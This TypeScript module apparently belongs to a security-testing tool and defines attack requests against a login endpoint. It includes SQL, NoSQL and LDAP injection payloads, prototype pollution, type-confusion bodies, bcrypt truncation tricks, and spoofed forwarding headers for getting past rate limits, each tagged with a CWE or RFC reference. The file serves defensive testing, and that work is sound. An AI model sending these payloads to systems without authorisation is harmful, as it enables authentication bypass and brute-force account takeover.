/** Ways to sign in as somebody without the password, and to guess it for longer than one may. */
import { type Attack, line, requestFrom, type Shot } from '../attack.js'

const FROM = ['endpoint'] as const

const JSON_TYPE = 'application/json'
const FORM_TYPE = 'application/x-www-form-urlencoded'
const PASSWORD = 'portcullis-attack-guess'

const text = JSON.stringify

/** Name, media type, body, source. */
const BODIES: readonly (readonly [name: string, type: string, body: string, source: string])[] = [
  ['nothing', JSON_TYPE, '', 'CWE-287'],
  ['empty-object', JSON_TYPE, '{}', 'CWE-287'],
  ['empty-password', JSON_TYPE, '{"username":"admin","password":""}', 'RFC 4513 §5.1.2'],
  ['no-password', JSON_TYPE, '{"username":"admin"}', 'CWE-287'],
  ['password-null', JSON_TYPE, '{"username":"admin","password":null}', 'CWE-843'],
  ['password-true', JSON_TYPE, '{"username":"admin","password":true}', 'CWE-843'],
  ['password-zero', JSON_TYPE, '{"username":"admin","password":0}', 'CWE-843'],
  ['password-list', JSON_TYPE, '{"username":"admin","password":["a","b"]}', 'CWE-843'],
  ['password-not-equal', JSON_TYPE, '{"username":"admin","password":{"$ne":null}}', 'CWE-943'],
  ['password-regex', JSON_TYPE, '{"username":"admin","password":{"$regex":".*"}}', 'CWE-943'],
  ['username-object', JSON_TYPE, `{"username":{"$gt":""},"password":"${PASSWORD}"}`, 'CWE-943'],
  ['username-list', JSON_TYPE, `{"username":["admin"],"password":"${PASSWORD}"}`, 'CWE-843'],
  ['username-sql', JSON_TYPE, `{"username":"admin' OR '1'='1' --","password":"${PASSWORD}"}`, 'CWE-89'],
  [
    'username-sql-union',
    JSON_TYPE,
    `{"username":"x' UNION SELECT * FROM users --","password":"${PASSWORD}"}`,
    'CWE-89'
  ],
  ['username-ldap', JSON_TYPE, `{"username":"*)(uid=*))(|(uid=*","password":"${PASSWORD}"}`, 'CWE-90'],
  ['username-nul', JSON_TYPE, `{"username":"admin\\u0000x","password":"${PASSWORD}"}`, 'CWE-158'],
  ['username-lone-surrogate', JSON_TYPE, `{"username":"\\ud800","password":"${PASSWORD}"}`, 'RFC 8259 §8.2'],
  ['username-prototype', JSON_TYPE, `{"username":"__proto__","password":"${PASSWORD}"}`, 'CWE-1321'],
  ['username-very-long', JSON_TYPE, text({ username: 'a'.repeat(30_000), password: PASSWORD }), 'CWE-770'],
  [
    'password-very-long',
    JSON_TYPE,
    text({ username: 'admin', password: 'a'.repeat(60_000) }),
    'CVE-2013-1443 (Django): long passwords'
  ],
  ['body-very-long', JSON_TYPE, text({ username: 'admin', password: PASSWORD, more: 'a'.repeat(200_000) }), 'CWE-770'],
  ['body-deep', JSON_TYPE, `${'['.repeat(20_000)}${']'.repeat(20_000)}`, 'CWE-674'],
  ['body-list', JSON_TYPE, `[{"username":"admin","password":"${PASSWORD}"}]`, 'CWE-843'],
  [
    'prototype-in-body',
    JSON_TYPE,
    `{"__proto__":{"roles":["admin"]},"username":"admin","password":"${PASSWORD}"}`,
    'CWE-1321'
  ],
  [
    'roles-in-body',
    JSON_TYPE,
    `{"username":"admin","password":"${PASSWORD}","roles":["admin"],"admin":true}`,
    'CWE-915'
  ],
  ['form-list', FORM_TYPE, `username=admin&password[]=${PASSWORD}`, 'CWE-843'],
  ['form-twice', FORM_TYPE, `username=admin&username=x&password=${PASSWORD}`, 'CWE-235'],
  ['bad-utf-8', JSON_TYPE, `{"username":"\xff\xfe","password":"${PASSWORD}"}`, 'RFC 8259 §8.1'],
  ['not-json', JSON_TYPE, 'username=admin', 'CWE-20']
]

/** Right name and password, shown as they must not be taken. */
const TRICKS: readonly (readonly [
  name: string,
  parts: (username: string, password: string) => Parameters<typeof requestFrom>[1],
  source: string
])[] = [
  [
    'as-plain-text',
    (username, password) => posted('text/plain', text({ username, password })),
    'CWE-352: a form can send it'
  ],
  ['without-media-type', (username, password) => posted(null, text({ username, password })), 'CWE-352'],
  [
    'as-multipart',
    (username, password) =>
      posted(
        'multipart/form-data; boundary=x',
        `--x\r\nContent-Disposition: form-data; name="username"\r\n\r\n${username}\r\n--x\r\nContent-Disposition: form-data; name="password"\r\n\r\n${password}\r\n--x--\r\n`
      ),
    'CWE-352'
  ],
  [
    'password-twice',
    (username, password) =>
      posted(JSON_TYPE, `{"username":${text(username)},"password":"x","password":${text(password)}}`),
    'RFC 8259 §4'
  ],
  [
    'username-twice-escaped',
    (username, password) =>
      posted(JSON_TYPE, `{"\\u0075sername":"x","username":${text(username)},"password":${text(password)}}`),
    'RFC 8259 §4'
  ],
  [
    'form-password-twice',
    (username, password) => posted(FORM_TYPE, `username=${username}&password=x&password=${password}`),
    'CWE-235'
  ],
  [
    'in-the-query',
    (username, password) => ({ ...posted(JSON_TYPE, '{}'), target: `?username=${username}&password=${password}` }),
    'CWE-598'
  ],
  [
    'by-get',
    (username, password) => ({ method: 'GET', target: `?username=${username}&password=${password}` }),
    'CWE-598'
  ],
  [
    'by-basic',
    (username, password) => ({
      ...posted(JSON_TYPE, '{}'),
      authorization: line('Authorization', `Basic ${Buffer.from(`${username}:${password}`).toString('base64')}`)
    }),
    'RFC 7617'
  ],
  [
    'password-with-nul',
    (username, password) => posted(JSON_TYPE, text({ username, password: `${password}\0x` })),
    'CWE-158: bcrypt ends at NUL'
  ],
  [
    'password-cut',
    (username, password) => posted(JSON_TYPE, text({ username, password: password.slice(0, -1) })),
    'CWE-287'
  ],
  [
    'password-longer',
    (username, password) => posted(JSON_TYPE, text({ username, password: password + 'x'.repeat(80) })),
    'Okta, October 2024: bcrypt ends at 72 bytes'
  ]
]

function posted(type: string | null, body: string): Parameters<typeof requestFrom>[1] {
  const kind = type === null ? '' : line('Content-Type', type)
  return { method: 'POST', lines: kind + line('Content-Length', String(Buffer.byteLength(body, 'latin1'))), body }
}

function login({ position, prefix }: Shot, parts: Parameters<typeof requestFrom>[1] = {}): string {
  return requestFrom(position, { ...parts, target: `${prefix}/login${parts.target ?? ''}` })
}

/** Nobody is called so: only the guesses count. */
const GUESSED = 'portcullis-attack'

const guess = (shot: Shot, username: string, lines = ''): string => {
  const parts = posted(JSON_TYPE, text({ username, password: PASSWORD }))
  return login(shot, { ...parts, lines: lines + (parts?.lines ?? '') })
}

/** After so many wrong guesses that no more are taken: another address, or another spelling of the name. */
const RESETS: readonly (readonly [name: string, username: string, lines: string, source: string])[] = [
  ['same-again', GUESSED, '', 'CWE-307'],
  ...[
    'X-Forwarded-For',
    'X-Real-IP',
    'X-Client-IP',
    'X-Originating-IP',
    'True-Client-IP',
    'CF-Connecting-IP',
    'X-Cluster-Client-IP',
    'Fastly-Client-IP'
  ].map((name) => [name.toLowerCase(), GUESSED, line(name, '203.0.113.66'), 'CWE-307; CWE-348'] as const),
  ['forwarded', GUESSED, line('Forwarded', 'for=203.0.113.66'), 'RFC 7239 §8.1'],
  [
    'two-x-forwarded-for',
    GUESSED,
    line('X-Forwarded-For', '203.0.113.66') + line('X-Forwarded-For', '203.0.113.67'),
    'CWE-348'
  ],
  ['upper-case', GUESSED.toUpperCase(), '', 'CWE-307; CWE-178'],
  ['fullwidth', GUESSED.replace('p', '\uff50'), '', 'CWE-307; Unicode UTS 36'],
  ['other-user-agent', GUESSED, line('User-Agent', 'x'), 'CWE-307'],
  ['other-host', GUESSED, line('X-Forwarded-Host', 'attack.invalid'), 'CWE-307']
]

/** A name beyond ASCII goes as JSON escapes, since bytes are written one a character. */
const ascii = (bytes: string): string =>
  bytes.replaceAll(/[^\0-\xff]/g, (character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`)

export const logins: readonly Attack[] = [
  ...BODIES.map(([name, type, body, source]): Attack => {
    return {
      id: `logins/${name}`,
      family: 'logins',
      why: 'Somebody signs in without the password, or ends what lets others sign in.',
      source,
      from: FROM,
      send: (shot) => login(shot, posted(type, body))
    }
  }),
  ...TRICKS.map(([name, parts, source]): Attack => {
    return {
      id: `logins/right-password-${name}`,
      family: 'logins',
      why: 'A password is taken in a form that another site can send, that logs keep, or that reads two ways.',
      source,
      from: FROM,
      send: (shot) => (shot.account === null ? null : login(shot, parts(shot.account.username, shot.account.password)))
    }
  }),
  ...RESETS.map(([name, username, lines, source]): Attack => {
    return {
      id: `logins/guessing-goes-on-${name}`,
      family: 'logins',
      why: 'Whoever may guess without end guesses right.',
      source,
      from: FROM,
      exhaust: (shot) => guess(shot, GUESSED),
      send: (shot) => {
        const bytes = ascii(guess(shot, username, lines))
        const [head = '', body = ''] = bytes.split('\r\n\r\n')
        return `${head.replace(/content-length: \d+/i, `Content-Length: ${body.length}`)}\r\n\r\n${body}`
      }
    }
  })
]
